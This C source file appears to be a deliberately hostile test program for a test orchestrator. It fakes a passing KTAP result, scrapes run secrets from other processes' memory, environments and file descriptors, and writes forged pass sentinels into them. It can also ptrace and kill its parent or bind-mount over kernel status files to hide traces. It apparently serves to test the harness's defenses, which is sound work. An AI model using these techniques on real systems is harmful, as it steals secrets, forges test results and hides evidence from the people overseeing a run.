/* A program that fails and wants to be told a pass: it looks for the secret of its run wherever a root may look, and writes
 * sentinels with all that may be one. `HOSTILE_WAY` says what else it does. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define TOKENS 4096
#define TOKEN 16

static char tokens[TOKENS][TOKEN + 1];
static int found;

static void keep(const char *token)
{
	for (int i = 0; i < found; i++)
		if (memcmp(tokens[i], token, TOKEN) == 0)
			return;
	if (found < TOKENS)
		memcpy(tokens[found++], token, TOKEN);
}

/* words of 16 lower-case hexadecimal digits */
static void search(const char *data, size_t size)
{
	size_t length = 0;

	for (size_t at = 0; at <= size; at++) {
		if (at < size && isxdigit((unsigned char)data[at]) && !isupper((unsigned char)data[at])) {
			length++;
			continue;
		}
		if (length == TOKEN)
			keep(data + at - TOKEN);
		length = 0;
	}
}

static void search_fd(int fd)
{
	static char block[1 << 16];
	ssize_t got;

	fcntl(fd, F_SETFL, O_NONBLOCK);
	while ((got = read(fd, block, sizeof(block))) > 0)
		search(block, got);
}

static void search_file(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK);

	if (fd >= 0) {
		search_fd(fd);
		close(fd);
	}
}

static void search_memory(int pid)
{
	char path[64], line[512];
	unsigned long start, end;
	FILE *maps;
	int memory;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	memory = open(path, O_RDONLY);
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "r");
	while (maps && memory >= 0 && fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx rw", &start, &end) != 2 || !strstr(line, " rw"))
			continue;
		char *copy = malloc(end - start);
		ssize_t got = copy ? pread(memory, copy, end - start, start) : -1;

		if (got > 0)
			search(copy, got);
		free(copy);
	}
	if (maps)
		fclose(maps);
	if (memory >= 0)
		close(memory);
}

static void each_process(void (*visit)(int pid))
{
	DIR *directory = opendir("/proc");
	struct dirent *entry;

	while (directory && (entry = readdir(directory)))
		if (isdigit((unsigned char)entry->d_name[0]) && atoi(entry->d_name) != getpid())
			visit(atoi(entry->d_name));
	if (directory)
		closedir(directory);
}

static void search_process(int pid)
{
	static const char *const files[] = { "cmdline", "environ", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5" };
	char path[64];

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		search_file(path);
	}
	search_memory(pid);
}

static void search_directory(const char *name)
{
	DIR *directory = opendir(name);
	struct dirent *entry;
	char path[512];

	while (directory && (entry = readdir(directory))) {
		snprintf(path, sizeof(path), "%s/%s", name, entry->d_name);
		search_file(path);
	}
	if (directory)
		closedir(directory);
}

static void forge(int fd)
{
	for (int i = 0; fd >= 0 && i < found; i++)
		dprintf(fd, "\norchestrate-sentinel %s status=0 left=0 stuck=0 who=nobody ms=1+1 taint=0,0 dropped=0 full=0\n",
			tokens[i]);
}

static void forge_process(int pid)
{
	char path[64];

	for (int number = 0; number < 8; number++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, number);
		forge(open(path, O_WRONLY | O_NONBLOCK));
	}
}

/* makes whoever started us say what we want, and end */
static void take_over(int pid)
{
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0)
		return;
	waitpid(pid, NULL, __WALL);
	forge_process(pid);
	kill(pid, SIGKILL);
}

/* one write(2): dprintf asks /dev/kmsg for its offset, and gives up */
static void mark(int kmsg, const char *token)
{
	char line[160];

	if (write(kmsg, line, snprintf(line, sizeof(line), "orchestrate: end %s hostile\n", token)) < 0)
		perror("/dev/kmsg");
}

int main(void)
{
	const char *way = HOSTILE_WAY;
	int kmsg;

	puts("KTAP version 1\n1..1\nok 1 harmless");
	fflush(stdout);
	search_fd(STDIN_FILENO);
	search_file("/dev/kmsg");
	search_directory("/run");
	search_directory("/tmp");
	each_process(search_process);
	forge(STDERR_FILENO);
	each_process(forge_process);
	kmsg = open("/dev/kmsg", O_WRONLY);
	for (int i = 0; i < found; i++)
		mark(kmsg, tokens[i]);
	if (strcmp(way, "hides-leak") == 0) {
		/* what it leaves behind is counted from files: others go over them */
		for (int i = 0; i < 40; i++)
			mount("/run", "/tmp", NULL, MS_BIND, NULL);
		mount("/etc/passwd", "/proc/self/mountinfo", NULL, MS_BIND, NULL);
		mount("/etc/passwd", "/proc/sys/kernel/tainted", NULL, MS_BIND, NULL);
		mount("/run", "/sys/kernel/slab", NULL, MS_BIND, NULL);
		return 0;
	}
	if (strcmp(way, "takes-over") == 0)
		take_over(getppid());
	if (strcmp(way, "kills") == 0)
		kill(getppid(), SIGKILL);
	return 1;
}
